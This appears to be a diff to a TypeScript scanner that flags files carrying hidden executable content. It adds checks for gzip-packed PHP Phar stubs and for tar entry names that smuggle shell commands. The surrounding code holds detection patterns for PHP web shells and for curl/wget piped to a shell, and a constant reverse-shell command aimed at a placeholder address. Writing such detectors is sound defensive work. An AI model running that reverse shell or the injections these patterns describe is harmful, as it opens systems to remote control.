@@ -18,6 +18,8 @@ const STARTING_STATEMENT =
 const DATA = /\.(?:json|ya?ml|xml|ini|conf|toml|properties)$/i
 const DOOR_IN_DATA =
   /<\?(?:php|=)?\s{0,8}@?(?:eval|assert|system|passthru|shell_exec|exec)\s{0,4}\(\s{0,4}(?:base64_decode\s{0,4}\(\s{0,4})?@?\$_(?:get|post|request|cookie|server)\b|\b(?:curl|wget)\s[^\n|;&]{0,100}?(?<![\d.])(?!(?:0|10|127)\.|169\.254\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)\d{1,3}(?:\.\d{1,3}){3}(?![\w.-])[^\n|;&]{0,120}\|\s{0,4}(?:sudo\s{1,4})?(?:ba|da|z)?sh\b/i
+/** What the rules are shown for an archive of PHP. */
+const PACKED_STUB = '<?php __halt_compiler();'
 /** What the rules are shown for such a file. */
 const OPENED_SHELL = 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'
 /** Settings of git that name a program, which runs when anybody works in the folder. */
@@ -101,6 +103,7 @@ export function mayBeDocument(name: string): boolean {
  * @param name empty when the file has none
  */
 export function scriptIn(content: Buffer, name: string): string | undefined {
+  if (isRunByName(content, name)) return OPENED_SHELL
   const hasExtension = EXTENSION.test(name)
   if (!hasExtension && isArchive(content)) return undefined
   const isRun = !hasExtension || RUN.test(name)
@@ -151,7 +154,8 @@ function isRunningObject(content: Buffer): boolean {
 function runBy(head: string, name: string, content: Buffer): string | undefined {
   const drawn = DRAWING.test(name) ? attackIn(drawingText(head, content)) : undefined
   const found = drawn ?? (SCRIPT.exec(head) ?? CONVERTED.exec(head) ?? GIT_SETTINGS.exec(head))?.[0]
-  return found?.startsWith('<image>') ? SCRIPT_OF_PICTURES : (found ?? lateScript(content))
+  if (found !== undefined) return found.startsWith('<image>') ? SCRIPT_OF_PICTURES : found
+  return isPackedStub(content) ? PACKED_STUB : lateScript(content)
 }
 
 /** The start of a drawing as it is shown: in UTF-16 as well, and packed. */
@@ -168,6 +172,26 @@ function isWide(content: Buffer): boolean {
 
 function wideText(content: Buffer): string {
   return new TextDecoder(content[0] === 0xff ? 'utf-16le' : 'utf-16be').decode(content.subarray(0, HEAD))
+}
+
+/** What an archive of PHP begins with, behind whatever its author likes (PHP manual, Phar file stub). */
+const STUB = /__halt_compiler\s{0,8}\(\s{0,8}\)/i
+
+/** An archive of PHP that is packed: functions for files open it whatever it is called. */
+function isPackedStub(content: Buffer): boolean {
+  return isGzip(content) && STUB.test(Buffer.from(gunzipped(content)(HEAD)).toString('latin1'))
+}
+
+const TAR = /\.tar$/i
+/** The first name in a tar archive (POSIX.1-1988), with a command in it that a shell puts in. */
+const COMMAND_IN_NAME =
+  /^[^\u0000\n`$]{0,80}(?:`\s{0,2}[a-z/][^`\u0000\n]{1,97}`|\$\(\s{0,2}[a-z/][^()\u0000\n]{1,95}\))/i
+const TAR_NAME = 100
+
+/** Whether a program that lists an archive by a shell runs what its first entry is called. */
+function isRunByName(content: Buffer, name: string): boolean {
+  if (content[0] === 0 || !(TAR.test(name) || isTar(content))) return false
+  return COMMAND_IN_NAME.test(content.toString('latin1', 0, TAR_NAME))
 }
 
 const TAG = Buffer.from('<?php', 'latin1')
@@ -201,5 +225,9 @@ const TAR_MAGIC = 257
  */
 export function isArchive(content: Buffer): boolean {
   if (content.length >= 4 && content.readUInt32BE(0) === ZIP) return true
+  return isTar(content)
+}
+
+function isTar(content: Buffer): boolean {
   return content.toString('latin1', TAR_MAGIC, TAR_MAGIC + 5) === 'ustar'
 }
